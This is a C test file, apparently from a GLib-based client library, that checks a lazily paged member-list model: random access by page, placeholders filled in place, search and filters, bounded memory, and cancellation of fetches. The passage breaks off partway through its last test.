/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <string.h>
#include <glib/gstdio.h>

#include "quorum-api.h"
#include "quorum-api-private.h"
#include "quorum-test-server.h"
#include "quorum-test-wait.h"
#include "quorum-test-settings.h"

/*
 * QuorumMemberList against the real server's demo organization (1,000
 * members; pages of 10, so position 900 stands for position 90,000 of
 * 100,000 in pages of 1,000: 90 pages the list must not walk): the length
 * is the total as soon as the first page is there, a position anywhere
 * fetches the one page that holds it (counted on the app's SoupSession)
 * and fills the placeholders handed out in place, with no items_changed
 * (a bound row is not bound again), reads that nobody keeps are never
 * fetched and a page scrolled past is cancelled, memory stays bounded
 * (members and pages held), search, filters and sort. Against a SoupServer
 * inside the test (which can hold a page back): what happens to a fetch in
 * flight when the query changes, a failed page that heals. A shadow copy
 * replays every items_changed, so a wrong position or count shows as a
 * difference from the model.
 */

static QuorumTestServer *server;
static QuorumClient *ada;
static char *acme_id;
static char *initech_id;

typedef struct
{
  GPtrArray *items;
  guint      resets;
  guint      signals;
} Shadow;

static void
items_changed_cb (GListModel *model,
                  guint       position,
                  guint       removed,
                  guint       added,
                  Shadow     *shadow)
{
  g_assert_cmpuint (position + removed, <=, shadow->items->len);

  shadow->signals++;
  if (removed > 0 && position == 0 && removed == shadow->items->len && added == 0)
    shadow->resets++;

  g_ptr_array_remove_range (shadow->items, position, removed);
  /* Placeholders, read later by shadow_fill(): reading them here would
   * itself ask for the next page. */
  for (guint i = 0; i < added; i++)
    g_ptr_array_insert (shadow->items, position + i, NULL);
}

/* The copy built from the signals is the model, item for item: items read
 * earlier must still sit where the signals put them. */
static void
shadow_fill (Shadow     *shadow,
             GListModel *model)
{
  g_assert_cmpuint (shadow->items->len, ==, g_list_model_get_n_items (model));
  for (guint i = 0; i < shadow->items->len; i++)
    {
      g_autoptr(GObject) item = g_list_model_get_item (model, i);

      if (g_ptr_array_index (shadow->items, i) == NULL)
        g_ptr_array_index (shadow->items, i) = g_object_ref (item);
      g_assert_true (item == g_ptr_array_index (shadow->items, i));
    }
}

static void
unref_nullable (gpointer object)
{
  if (object != NULL)
    g_object_unref (object);
}

static Shadow *
shadow_new (QuorumMemberList *list)
{
  Shadow *shadow = g_new0 (Shadow, 1);

  shadow->items = g_ptr_array_new_with_free_func (unref_nullable);
  g_signal_connect (list, "items-changed", G_CALLBACK (items_changed_cb), shadow);
  return shadow;
}

static void
shadow_free (Shadow *shadow)
{
  g_ptr_array_unref (shadow->items);
  g_free (shadow);
}

static void
wait_idle (QuorumMemberList *list)
{
  quorum_test_wait_for (!quorum_member_list_get_loading (list), QUORUM_TEST_WAIT_SECONDS);
}

/* Every request the app's session sends for a members list, watched. */
typedef struct
{
  GPtrArray *messages;  /* queued while watched */
  guint      unqueued;
  guint      answered;
} Traffic;

static void
request_queued_cb (SoupSession *session,
                   SoupMessage *msg,
                   Traffic     *traffic)
{
  g_ptr_array_add (traffic->messages, g_object_ref (msg));
}

static void
request_unqueued_cb (SoupSession *session,
                     SoupMessage *msg,
                     Traffic     *traffic)
{
  if (!g_ptr_array_find (traffic->messages, msg, NULL))
    return;
  traffic->unqueued++;
  if (soup_message_get_status (msg) != SOUP_STATUS_NONE)
    traffic->answered++;
}

static void
traffic_watch (Traffic *traffic)
{
  SoupSession *session = quorum_client_get_default_session ();

  traffic->messages = g_ptr_array_new_with_free_func (g_object_unref);
  g_signal_connect (session, "request-queued", G_CALLBACK (request_queued_cb), traffic);
  g_signal_connect (session, "request-unqueued", G_CALLBACK (request_unqueued_cb), traffic);
}

static void
traffic_stop (Traffic *traffic)
{
  g_signal_handlers_disconnect_by_data (quorum_client_get_default_session (), traffic);
  g_clear_pointer (&traffic->messages, g_ptr_array_unref);
}

static void
traffic_clear (Traffic *traffic)
{
  g_ptr_array_set_size (traffic->messages, 0);
  traffic->unqueued = traffic->answered = 0;
}

/* The query of request @i ("limit=10&offset=900"). */
static const char *
traffic_query (Traffic *traffic,
               guint    i)
{
  const char *query = g_uri_get_query (soup_message_get_uri (g_ptr_array_index (traffic->messages, i)));

  return query != NULL ? query : "";
}

/* Reads every position, keeping the placeholders as rows on screen do
 * until their pages are there. */
static void
load_all (QuorumMemberList *list,
          Shadow           *shadow)
{
  GListModel *model = G_LIST_MODEL (list);
  g_autoptr(GPtrArray) held = g_ptr_array_new_with_free_func (g_object_unref);
  guint n;

  g_list_model_get_n_items (model);
  wait_idle (list);
  g_assert_null (quorum_member_list_get_error (list));
  g_assert_true (quorum_member_list_get_complete (list));
  n = g_list_model_get_n_items (model);
  g_assert_cmpuint (n, ==, quorum_member_list_get_total (list));
  for (guint i = 0; i < n; i++)
    g_ptr_array_add (held, g_list_model_get_item (model, i));
  wait_idle (list);
  g_assert_null (quorum_member_list_get_error (list));
  shadow_fill (shadow, model);
  for (guint i = 0; i < n; i++)
    g_assert_false (quorum_member_is_placeholder (g_ptr_array_index (shadow->items, i)));
}

/* The ids of the whole list by the API's cursors, pages of 200. */
static GPtrArray *
walk_ids (const QuorumMemberFilter *filter)
{
  GPtrArray *ids = g_ptr_array_new_with_free_func (g_free);
  g_autofree char *cursor = NULL;

  do
    {
      g_autoptr(GAsyncResult) result = NULL;
      g_autoptr(GPtrArray) page = NULL;
      g_autoptr(GError) error = NULL;
      char *next = NULL;

      quorum_client_list_members_filtered_async (ada, acme_id, filter, cursor, 200, NULL,
                                                 quorum_test_store_result, &result);
      page = quorum_client_list_members_finish (ada, quorum_test_wait_result (&result), &next, NULL, &error);
      g_assert_no_error (error);
      for (guint i = 0; i < page->len; i++)
        g_ptr_array_add (ids, g_strdup (quorum_member_get_id (g_ptr_array_index (page, i))));
      g_free (cursor);
      cursor = next;
    }
  while (cursor != NULL);
  return ids;
}

static gboolean
contains_casefold (const char *haystack,
                   const char *needle)
{
  g_autofree char *h = g_utf8_casefold (haystack, -1);
  g_autofree char *n = g_utf8_casefold (needle, -1);

  return strstr (h, n) != NULL;
}

typedef struct
{
  guint position;
  guint removed;
  guint added;
  guint signals;
  guint resets;
} Recorder;

static void
record_cb (GListModel *model,
           guint       position,
           guint       removed,
           guint       added,
           Recorder   *recorder)
{
  recorder->position = position;
  recorder->removed = removed;
  recorder->added = added;
  recorder->signals++;
  if (position == 0 && added == 0 && removed > 0 && g_list_model_get_n_items (model) == 0)
    recorder->resets++;
}

/* Reads @position, held until its page is there: exactly one request,
 * for the page that holds it, no items_changed, and the placeholder held
 * is the member now, still the item at @position. */
static QuorumMember *
read_far (QuorumMemberList *list,
          Traffic          *traffic,
          Recorder         *recorder,
          guint             position,
          const char       *query)
{
  GListModel *model = G_LIST_MODEL (list);
  g_autoptr(QuorumMember) placeholder = g_list_model_get_item (model, position);
  guint signals = recorder->signals;

  g_assert_true (quorum_member_is_placeholder (placeholder));
  g_assert_null (quorum_member_get_id (placeholder));
  /* Until its page is there, the same placeholder at the same position. */
  {
    g_autoptr(QuorumMember) again = g_list_model_get_item (model, position);

    g_assert_true (again == placeholder);
  }
  traffic_clear (traffic);
  g_assert_true (quorum_member_list_get_loading (list));
  wait_idle (list);
  g_assert_null (quorum_member_list_get_error (list));
  g_assert_cmpuint (traffic->messages->len, ==, 1);
  g_assert_cmpstr (traffic_query (traffic, 0), ==, query);
  g_assert_cmpuint (recorder->signals, ==, signals);
  g_assert_false (quorum_member_is_placeholder (placeholder));
  g_assert_nonnull (quorum_member_get_id (placeholder));
  {
    g_autoptr(QuorumMember) now = g_list_model_get_item (model, position);

    g_assert_true (now == placeholder);
  }
  return g_steal_pointer (&placeholder);
}

static void
test_random_access (void)
{
  g_autoptr(QuorumMemberList) list = quorum_member_list_new (ada, acme_id);
  GListModel *model = G_LIST_MODEL (list);
  g_autoptr(GPtrArray) ids = walk_ids (NULL);
  Traffic traffic = { 0 };
  Recorder recorder = { 0 };
  gboolean seen_suspended = FALSE;

  g_assert_true (g_list_model_get_item_type (model) == QUORUM_TYPE_MEMBER);
  g_assert_cmpuint (quorum_member_list_get_page_size (list), ==, 100);
  g_assert_cmpuint (ids->len, ==, 1000);
  quorum_member_list_set_page_size (list, 10);
  traffic_watch (&traffic);
  g_signal_connect (list, "items-changed", G_CALLBACK (record_cb), &recorder);

  /* Nothing loaded, nothing fetched until a view asks; then the length is
   * the total at once, with one request and one signal. */
  g_assert_false (quorum_member_list_get_loading (list));
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 0);
  g_assert_true (quorum_member_list_get_loading (list));
  wait_idle (list);
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 1000);
  g_assert_cmpuint (quorum_member_list_get_total (list), ==, 1000);
  g_assert_true (quorum_member_list_get_complete (list));
  g_assert_cmpuint (traffic.messages->len, ==, 1);
  g_assert_cmpstr (traffic_query (&traffic, 0), ==, "limit=10");
  g_assert_cmpuint (recorder.signals, ==, 1);
  g_assert_cmpuint (recorder.added, ==, 1000);
  g_assert_null (g_list_model_get_item (model, 1000));

  /* Position 900 (as 90,000 of 100,000): one page fetched, the one that
   * holds it, not the 89 before. */
  {
    g_autoptr(QuorumMember) member = read_far (list, &traffic, &recorder, 905, "limit=10&offset=900");

    g_assert_cmpstr (quorum_member_get_id (member), ==, g_ptr_array_index (ids, 905));
    for (guint i = 900; i < 910; i++)
      {
        g_autoptr(QuorumMember) other = g_list_model_get_item (model, i);

        g_assert_cmpstr (quorum_member_get_id (other), ==, g_ptr_array_index (ids, i));
      }
  }
  /* The end, 75 %: one page each. */
  g_object_unref (read_far (list, &traffic, &recorder, 999, "limit=10&offset=990"));
  g_object_unref (read_far (list, &traffic, &recorder, 750, "limit=10&offset=750"));
  g_assert_cmpuint (_quorum_member_list_get_n_pages (list), ==, 4);

  /* Positions read and let go before the list gets to them (a scrollbar
   * dragged across): nothing fetched, nothing kept. */
  traffic_clear (&traffic);
  for (guint i = 5; i < 1000; i += 20)
    g_object_unref (g_list_model_get_item (model, i));
  quorum_test_iterate (20);
  wait_idle (list);
  g_assert_cmpuint (traffic.messages->len, ==, 0);
  g_assert_cmpuint (_quorum_member_list_get_n_pages (list), ==, 4);

  /* A page asked for, then scrolled past while the server has not
   * answered: cancelled, and the page where the view stopped comes. */
  {
    g_autoptr(QuorumMember) passed = g_list_model_get_item (model, 500);
    g_autoptr(QuorumMember) stopped = NULL;

    quorum_test_server_hang (server);
    traffic_clear (&traffic);
    quorum_test_wait_for (traffic.messages->len == 1, QUORUM_TEST_WAIT_SECONDS);
    g_assert_cmpstr (traffic_query (&traffic, 0), ==, "limit=10&offset=500");
    g_clear_object (&passed);
    stopped = g_list_model_get_item (model, 300);
    quorum_test_wait_for (traffic.messages->len == 2, QUORUM_TEST_WAIT_SECONDS);
    /* The cancelled fetch leaves the session before the server can
     * answer it: cancelling is only handled on a later main loop turn. */
    quorum_test_wait_for (traffic.unqueued == 1, QUORUM_TEST_WAIT_SECONDS);
    g_assert_cmpuint (traffic.answered, ==, 0);
    quorum_test_server_resume (server);
    wait_idle (list);
    quorum_test_wait_for (traffic.unqueued == 2, QUORUM_TEST_WAIT_SECONDS);
    g_assert_cmpstr (traffic_query (&traffic, 1), ==, "limit=10&offset=300");
    g_assert_cmpuint (traffic.answered, ==, 1);  /* 300's; 500's was cancelled */
    g_clear_object (&stopped);
    stopped = g_list_model_get_item (model, 300);
    g_assert_false (quorum_member_is_placeholder (stopped));
    g_assert_cmpstr (quorum_member_get_id (stopped), ==, g_ptr_array_index (ids, 300));
  }

  /* Everything, read as a view would, is the API's order. */
  traffic_clear (&traffic);
  for (guint i = 0; i < 1000; i++)
    {
      g_autoptr(QuorumMember) member = g_list_model_get_item (model, i);

      if (quorum_member_is_placeholder (member))
        {
          /* Held, it is filled in place: the same object at the same
           * position, the member there now. */
          wait_idle (list);
          g_assert_false (quorum_member_is_placeholder (member));
          {
            g_autoptr(QuorumMember) again = g_list_model_get_item (model, i);

            g_assert_true (again == member);
          }
        }
      g_assert_cmpstr (quorum_member_get_id (member), ==, g_ptr_array_index (ids, i));
      /* Active before suspended. */
      if (g_str_equal (quorum_member_get_status (member), "suspended"))
        seen_suspended = TRUE;
      else
        g_assert_false (seen_suspended);
    }
  g_assert_true (seen_suspended);
  g_assert_cmpuint (traffic.messages->len, ==, 100 - 5);  /* pages 0, 30, 75, 90 and 99 were held */
  g_assert_cmpuint (recorder.resets, ==, 0);
  g_assert_cmpuint (recorder.signals, ==, 1);  /* the length; pages fill in place */

  g_signal_handlers_disconnect_by_data (list, &recorder);
  traffic_stop (&traffic);
}

typedef struct
{
  guint placeholder;  /* "notify::placeholder" */
  guint name;         /* "notify::name" */
  gboolean filled_first;  /* every field set when "placeholder" was notified */
} Notified;

static void
notified_cb (QuorumMember *member,
             GParamSpec   *pspec,
             Notified     *notified)
{
  if (g_str_equal (pspec->name, "placeholder"))
    {
      notified->placeholder++;
      notified->filled_first = !quorum_member_is_placeholder (member) &&
                               quorum_member_get_id (member) != NULL &&
                               quorum_member_get_name (member) != NULL &&
                               quorum_member_get_role_name (member) != NULL;
    }
  else if (g_str_equal (pspec->name, "name"))
    notified->name++;
}

/* A page arriving fills the placeholders handed out for it in place: no
 * items_changed (a view would bind every row of the page again), each one
 * the member at its own position, said through "notify"; the positions
 * nobody read hold members too. */
static void
test_fill_in_place (void)
{
  g_autoptr(QuorumMemberList) list = quorum_member_list_new (ada, acme_id);
  GListModel *model = G_LIST_MODEL (list);
  g_autoptr(GPtrArray) ids = walk_ids (NULL);
  g_autoptr(GPtrArray) held = g_ptr_array_new_with_free_func (g_object_unref);
  Notified notified[10] = { 0 };
  Recorder recorder = { 0 };

  quorum_member_list_set_page_size (list, 10);
  g_list_model_get_n_items (model);
  wait_idle (list);
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 1000);
  g_signal_connect (list, "items-changed", G_CALLBACK (record_cb), &recorder);

  /* Positions 600…607 held as bound rows would; 608 and 609 never read. */
  for (guint i = 0; i < 8; i++)
    {
      QuorumMember *placeholder = g_list_model_get_item (model, 600 + i);

      g_assert_true (quorum_member_is_placeholder (placeholder));
      g_signal_connect (placeholder, "notify", G_CALLBACK (notified_cb), &notified[i]);
      g_ptr_array_add (held, placeholder);
    }
  wait_idle (list);
  g_assert_null (quorum_member_list_get_error (list));

  g_assert_cmpuint (recorder.signals, ==, 0);
  for (guint i = 0; i < 8; i++)
    {
      QuorumMember *member = g_ptr_array_index (held, i);
      g_autoptr(QuorumMember) now = g_list_model_get_item (model, 600 + i);

      g_assert_false (quorum_member_is_placeholder (member));
      g_assert_cmpstr (quorum_member_get_id (member), ==, g_ptr_array_index (ids, 600 + i));
      g_assert_nonnull (quorum_member_get_email (member));
      g_assert_nonnull (quorum_member_get_status (member));
      g_assert_nonnull (quorum_member_get_joined_at (member));
      g_assert_true (now == member);
      g_assert_cmpuint (notified[i].placeholder, ==, 1);
      g_assert_cmpuint (notified[i].name, ==, 1);
      g_assert_true (notified[i].filled_first);
      g_signal_handlers_disconnect_by_data (member, &notified[i]);
    }
  for (guint i = 608; i < 610; i++)
    {
      g_autoptr(QuorumMember) member = g_list_model_get_item (model, i);

      g_assert_false (quorum_member_is_placeholder (member));
      g_assert_cmpstr (quorum_member_get_id (member), ==, g_ptr_array_index (ids, i));
    }
  g_assert_false (quorum_member_list_get_loading (list));
  g_signal_handlers_disconnect_by_data (list, &recorder);
}

static void
test_search_and_filters (void)
{
  g_autoptr(QuorumMemberList) list = quorum_member_list_new (ada, acme_id);
  GListModel *model = G_LIST_MODEL (list);
  Shadow *shadow = shadow_new (list);
  guint n;

  quorum_member_list_set_page_size (list, 200);
  load_all (list, shadow);
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 1000);
  shadow->signals = 0;

  /* A query empties the list with one exact items_changed, then fills it
   * with matches only. */
  quorum_member_list_set_query (list, "ADA");
  g_assert_cmpuint (shadow->resets, ==, 1);
  g_assert_cmpuint (shadow->signals, ==, 1);
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 0);
  load_all (list, shadow);
  n = g_list_model_get_n_items (model);
  g_assert_cmpuint (n, >=, 1);
  g_assert_cmpuint (n, <, 1000);
  g_assert_cmpuint (n, ==, quorum_member_list_get_total (list));
  shadow_fill (shadow, model);
  for (guint i = 0; i < n; i++)
    {
      QuorumMember *member = g_ptr_array_index (shadow->items, i);

      g_assert_true (contains_casefold (quorum_member_get_name (member), "ada") ||
                     contains_casefold (quorum_member_get_email (member), "ada"));
    }

  quorum_member_list_set_query (list, NULL);
  quorum_member_list_set_role_filter (list, QUORUM_ROLE_ADMIN);
  g_assert_cmpuint (shadow->resets, ==, 2);
  load_all (list, shadow);
  n = g_list_model_get_n_items (model);
  g_assert_cmpuint (n, >, 0);
  shadow_fill (shadow, model);
  for (guint i = 0; i < n; i++)
    g_assert_cmpint (quorum_member_get_role (g_ptr_array_index (shadow->items, i)), ==, QUORUM_ROLE_ADMIN);

  quorum_member_list_set_role_filter (list, QUORUM_ROLE_NONE);
  quorum_member_list_set_status_filter (list, "suspended");
  load_all (list, shadow);
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 10);
  shadow_fill (shadow, model);
  for (guint i = 0; i < 10; i++)
    g_assert_cmpstr (quorum_member_get_status (g_ptr_array_index (shadow->items, i)), ==, "suspended");

  /* Nothing matches: an empty, complete list. */
  quorum_member_list_set_status_filter (list, NULL);
  quorum_member_list_set_query (list, "zzz-nobody-zzz");
  load_all (list, shadow);
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 0);
  g_assert_cmpuint (quorum_member_list_get_total (list), ==, 0);
  g_assert_true (quorum_member_list_get_complete (list));
  shadow_free (shadow);
}

/* Bounded memory. */

/* Reads @from…@to - 1 the way a view scrolling down does: the last @bound
 * rows stay held (bound), older ones are let go; a placeholder is waited
 * for. Members and pages held stay bounded all the way. Returns the ids. */
static GPtrArray *
view_scroll (QuorumMemberList *list,
             guint             from,
             guint             to,
             guint             bound)
{
  GListModel *model = G_LIST_MODEL (list);
  GPtrArray *ids = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GPtrArray) rows = g_ptr_array_new_with_free_func (g_object_unref);
  guint page_size = quorum_member_list_get_page_size (list);
  guint max_loaded = quorum_member_list_get_max_loaded (list);

  for (guint i = from; i < to; i++)
    {
      g_autoptr(QuorumMember) member = g_list_model_get_item (model, i);

      if (quorum_member_is_placeholder (member))
        {
          g_assert_true (quorum_member_list_get_loading (list));
          wait_idle (list);
          g_assert_null (quorum_member_list_get_error (list));
          g_assert_false (quorum_member_is_placeholder (member));
        }
      g_ptr_array_add (ids, g_strdup (quorum_member_get_id (member)));
      g_ptr_array_add (rows, g_steal_pointer (&member));
      if (rows->len > bound)
        g_ptr_array_remove_index (rows, 0);
      g_assert_cmpuint (quorum_member_list_get_n_loaded (list), <=, max_loaded);
      /* Loaded ones, plus the one waited for. */
      g_assert_cmpuint (_quorum_member_list_get_n_pages (list), <=, max_loaded / page_size + 1);
    }
  return ids;
}

/* Reads @position; if its page was dropped, waits for it to come back and
 * checks that the placeholder read was filled in place, with no
 * items_changed. */
static QuorumMember *
read_back (QuorumMemberList *list,
           Recorder         *recorder,
           guint             position,
           guint             page_start,
           guint             page_n_items)
{
  GListModel *model = G_LIST_MODEL (list);
  g_autoptr(QuorumMember) first = g_list_model_get_item (model, position);
  guint signals = recorder->signals;

  if (!quorum_member_is_placeholder (first))
    return g_steal_pointer (&first);

  /* Until the page is back, the same placeholder at the same position. */
  {
    g_autoptr(QuorumMember) again = g_list_model_get_item (model, position);

    g_assert_true (again == first);
  }
  g_assert_null (quorum_member_get_id (first));
  g_assert_true (quorum_member_list_get_loading (list));
  wait_idle (list);
  g_assert_null (quorum_member_list_get_error (list));
  g_assert_cmpuint (recorder->signals, ==, signals);
  g_assert_false (quorum_member_is_placeholder (first));
  for (guint i = page_start; i < page_start + page_n_items; i++)
    {
      g_autoptr(QuorumMember) member = g_list_model_get_item (model, i);

      g_assert_false (quorum_member_is_placeholder (member));
      if (i == position)
        g_assert_true (member == first);
    }
  return g_steal_pointer (&first);
}

static void
test_bounded (void)
{
  g_autoptr(QuorumMemberList) list = quorum_member_list_new (ada, acme_id);
  GListModel *model = G_LIST_MODEL (list);
  g_autoptr(GPtrArray) ids = walk_ids (NULL);
  g_autoptr(GPtrArray) seen = NULL;
  g_autoptr(GPtrArray) back = NULL;
  Traffic traffic = { 0 };
  Recorder recorder = { 0 };
  QuorumMember *first = NULL;

  g_assert_cmpuint (quorum_member_list_get_max_loaded (list), ==, QUORUM_MEMBER_LIST_DEFAULT_MAX_LOADED);
  quorum_member_list_set_page_size (list, 10);
  quorum_member_list_set_max_loaded (list, 30);
  g_signal_connect (list, "items-changed", G_CALLBACK (record_cb), &recorder);

  /* The first member read, watched while the view scrolls to the end. */
  g_list_model_get_n_items (model);
  wait_idle (list);
  first = g_list_model_get_item (model, 0);
  g_object_add_weak_pointer (G_OBJECT (first), (gpointer *) &first);
  g_object_unref (first);
  g_assert_nonnull (first);  /* the list holds it */

  traffic_watch (&traffic);
  seen = view_scroll (list, 0, 1000, 20);
  g_assert_cmpuint (traffic.messages->len, ==, 99);  /* one a page, the first was there */
  g_assert_cmpuint (seen->len, ==, 1000);
  for (guint i = 0; i < 1000; i++)
    g_assert_cmpstr (g_ptr_array_index (seen, i), ==, g_ptr_array_index (ids, i));
  g_assert_null (first);  /* freed: nobody holds page 1 any more */
  g_assert_cmpuint (quorum_member_list_get_n_loaded (list), ==, 30);
  g_assert_cmpuint (_quorum_member_list_get_n_pages (list), ==, 3);
  g_assert_cmpuint (recorder.signals, ==, 1);  /* the length once; the pages fill in place */

  /* Back to the top in one jump: one page, where it was. */
  traffic_clear (&traffic);
  back = view_scroll (list, 0, 10, 20);
  g_assert_cmpuint (traffic.messages->len, ==, 1);
  g_assert_cmpstr (traffic_query (&traffic, 0), ==, "limit=10");
  g_assert_cmpstr (g_ptr_array_index (back, 0), ==, g_ptr_array_index (ids, 0));
  g_assert_cmpuint (recorder.resets, ==, 0);
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 1000);

  /* A query change drops everything, placeholders included. */
  quorum_member_list_set_query (list, "ada");
  g_assert_cmpuint (recorder.resets, ==, 1);
  g_assert_cmpuint (quorum_member_list_get_n_loaded (list), ==, 0);
  g_assert_cmpuint (_quorum_member_list_get_n_pages (list), ==, 0);
  wait_idle (list);
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, quorum_member_list_get_total (list));
  traffic_stop (&traffic);
  g_signal_handlers_disconnect_by_data (list, &recorder);
}

static void
test_refetch_cancelled_by_query (void)
{
  g_autoptr(QuorumMemberList) list = quorum_member_list_new (ada, acme_id);
  GListModel *model = G_LIST_MODEL (list);
  g_autoptr(QuorumMember) placeholder = NULL;
  Recorder recorder = { 0 };
  guint n;

  quorum_member_list_set_page_size (list, 50);
  g_list_model_get_n_items (model);
  wait_idle (list);
  g_signal_connect (list, "items-changed", G_CALLBACK (record_cb), &recorder);

  /* A far page is asked for... */
  placeholder = g_list_model_get_item (model, 503);
  g_assert_true (quorum_member_is_placeholder (placeholder));
  g_assert_true (quorum_member_list_get_loading (list));
  quorum_test_iterate (1);

  /* ...when the user types: one reset, and its answer is never used. */
  quorum_member_list_set_query (list, "ada");
  g_assert_cmpuint (recorder.signals, ==, 1);
  g_assert_cmpuint (recorder.resets, ==, 1);
  wait_idle (list);
  quorum_test_iterate (20);
  wait_idle (list);

  g_assert_null (quorum_member_list_get_error (list));
  g_assert_cmpuint (recorder.signals, ==, 2);
  g_assert_cmpuint (recorder.position, ==, 0);
  g_assert_cmpuint (recorder.removed, ==, 0);
  n = g_list_model_get_n_items (model);
  g_assert_cmpuint (n, >, 0);
  g_assert_cmpuint (n, <, 50);
  for (guint i = 0; i < n; i++)
    {
      g_autoptr(QuorumMember) member = g_list_model_get_item (model, i);

      g_assert_false (quorum_member_is_placeholder (member));
      g_assert_true (contains_casefold (quorum_member_get_name (member), "ada") ||
                     contains_casefold (quorum_member_get_email (member), "ada"));
    }
  g_signal_handlers_disconnect_by_data (list, &recorder);
}

static void
update_member (const char *member_id,
               QuorumRole  role,
               const char *status)
{
  g_autoptr(GAsyncResult) result = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(QuorumMember) member = NULL;

  quorum_client_update_member_async (ada, acme_id, member_id, role, status, NULL, quorum_test_store_result, &result);
  member = quorum_client_update_member_finish (ada, quorum_test_wait_result (&result), &error);
  g_assert_no_error (error);
}

static void
remove_member (const char *member_id)
{
  g_autoptr(GAsyncResult) result = NULL;
  g_autoptr(GError) error = NULL;

  quorum_client_remove_member_async (ada, acme_id, member_id, NULL, quorum_test_store_result, &result);
  g_assert_true (quorum_client_remove_member_finish (ada, quorum_test_wait_result (&result), &error));
  g_assert_no_error (error);
}

/* The first plain member at or after @position. */
static guint
plain_member_at (QuorumMemberList *list,
                 guint             position)
{
  for (;; position++)
    {
      g_autoptr(QuorumMember) member = g_list_model_get_item (G_LIST_MODEL (list), position);

      if (quorum_member_get_role (member) == QUORUM_ROLE_MEMBER &&
          g_str_equal (quorum_member_get_status (member), "active"))
        return position;
    }
}

/* Changes the server's data: runs last, the other tests count members. */
static void
test_changes_across_pages (void)
{
  g_autoptr(QuorumMemberList) list = quorum_member_list_new (ada, acme_id);
  GListModel *model = G_LIST_MODEL (list);
  g_autoptr(GPtrArray) ids = NULL;
  g_autoptr(QuorumMember) member = NULL;
  g_autofree char *removed_id = NULL;
  g_autofree char *changed_id = NULL;
  Recorder recorder = { 0 };
  guint removed_at;
  guint changed_at;
  guint n;

  quorum_member_list_set_page_size (list, 10);
  quorum_member_list_set_max_loaded (list, 30);
  g_list_model_get_n_items (model);
  wait_idle (list);
  /* Three pages in memory, nothing dropped yet. */
  g_ptr_array_unref (view_scroll (list, 0, 30, 30));
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 1000);
  g_assert_cmpuint (quorum_member_list_get_n_loaded (list), ==, 30);
  g_signal_connect (list, "items-changed", G_CALLBACK (record_cb), &recorder);

  /* The app removes the last member of page 2 and makes one of page 3 an
   * admin: one exact signal each, the rows below move up by one. */
  removed_at = 19;
  member = g_list_model_get_item (model, removed_at);
  g_assert_cmpint (quorum_member_get_role (member), !=, QUORUM_ROLE_OWNER);
  removed_id = g_strdup (quorum_member_get_id (member));
  g_clear_object (&member);
  remove_member (removed_id);
  g_assert_true (quorum_member_list_remove (list, removed_id));
  g_assert_cmpuint (recorder.signals, ==, 1);
  g_assert_cmpuint (recorder.position, ==, removed_at);
  g_assert_cmpuint (recorder.removed, ==, 1);
  g_assert_cmpuint (recorder.added, ==, 0);
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 999);
  g_assert_cmpuint (quorum_member_list_get_total (list), ==, 999);

  changed_at = plain_member_at (list, 21);
  g_assert_cmpuint (changed_at, <, 29);
  member = g_list_model_get_item (model, changed_at);
  changed_id = g_strdup (quorum_member_get_id (member));
  g_clear_object (&member);
  update_member (changed_id, QUORUM_ROLE_ADMIN, NULL);
  {
    g_autoptr(GAsyncResult) result = NULL;
    g_autoptr(GPtrArray) page = NULL;

    /* The app has the server's answer; here a plain read of the same row. */
    member = g_list_model_get_item (model, changed_at);
    g_assert_cmpint (quorum_member_get_role (member), ==, QUORUM_ROLE_MEMBER);
    g_clear_object (&member);
    quorum_client_list_members_async (ada, acme_id, NULL, QUORUM_ROLE_ADMIN, NULL, NULL, 200,
                                      NULL, quorum_test_store_result, &result);
    page = quorum_client_list_members_finish (ada, quorum_test_wait_result (&result), NULL, NULL, NULL);
    g_assert_nonnull (page);
    for (guint i = 0; i < page->len; i++)
      if (g_str_equal (quorum_member_get_id (g_ptr_array_index (page, i)), changed_id))
        member = g_object_ref (g_ptr_array_index (page, i));
    g_assert_nonnull (member);
  }
  g_assert_true (quorum_member_list_replace (list, member));
  g_clear_object (&member);
  g_assert_cmpuint (recorder.signals, ==, 2);
  g_assert_cmpuint (recorder.position, ==, changed_at);
  g_assert_cmpuint (recorder.removed, ==, 1);
  g_assert_cmpuint (recorder.added, ==, 1);

  /* Scroll on until both pages are dropped... */
  g_ptr_array_unref (view_scroll (list, 29, 80, 5));
  g_assert_cmpuint (quorum_member_list_get_n_loaded (list), <=, 30);
  n = g_list_model_get_n_items (model);
  recorder.signals = 0;

  /* ...and back: the pages at those positions now (the server moved up
   * by one too) hold the admin and not the removed member, nothing
   * reloaded, the rows where they were. */
  member = read_back (list, &recorder, changed_at, 20, 10);
  g_assert_cmpstr (quorum_member_get_id (member), ==, changed_id);
  g_assert_cmpint (quorum_member_get_role (member), ==, QUORUM_ROLE_ADMIN);
  g_clear_object (&member);
  member = read_back (list, &recorder, 10, 10, 10);
  g_clear_object (&member);
  for (guint i = 10; i < 19; i++)
    {
      member = g_list_model_get_item (model, i);
      g_assert_false (quorum_member_is_placeholder (member));
      g_assert_cmpstr (quorum_member_get_id (member), !=, removed_id);
      g_clear_object (&member);
    }
  g_assert_cmpuint (recorder.resets, ==, 0);
  g_assert_cmpuint (recorder.signals, ==, 0);  /* filled in place */
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, n);

  /* Someone else removes a member of page 1 while it is dropped: the
   * positions no longer line up (the total says so), so the list starts
   * over from the top rather than shift every row below. */
  g_ptr_array_unref (view_scroll (list, 30, 80, 5));
  ids = g_ptr_array_new_with_free_func (g_free);
  {
    g_autoptr(GAsyncResult) result = NULL;
    g_autoptr(GPtrArray) page = NULL;

    quorum_client_list_members_async (ada, acme_id, NULL, QUORUM_ROLE_NONE, NULL, NULL, 10,
                                      NULL, quorum_test_store_result, &result);
    page = quorum_client_list_members_finish (ada, quorum_test_wait_result (&result), NULL, NULL, NULL);
    g_assert_nonnull (page);
    for (guint i = 0; i < page->len; i++)
